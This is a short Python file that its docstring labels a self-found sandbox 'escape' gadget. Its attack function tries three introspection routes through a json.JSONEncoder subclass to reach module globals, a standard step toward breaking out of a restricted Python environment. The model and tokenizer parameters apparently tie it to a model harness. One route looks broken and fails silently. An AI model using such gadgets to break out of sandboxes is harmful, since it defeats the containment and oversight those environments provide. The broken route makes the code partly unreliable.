"""Class: module gadget. Source: own find. Escape: the encoder that `cls=` makes leads to json's globals."""

import json


class Encoder(json.JSONEncoder):
    pass


def attack(model, tokenizer, address):
    for way in (
        lambda: json.dumps([], cls=lambda **options: Encoder).__func__.__globals__,
        lambda: Encoder.encode.__globals__,
        lambda: super(Encoder, Encoder()).iterencode.__globals__,
    ):
        try:
            return way()
        except Exception:
            pass
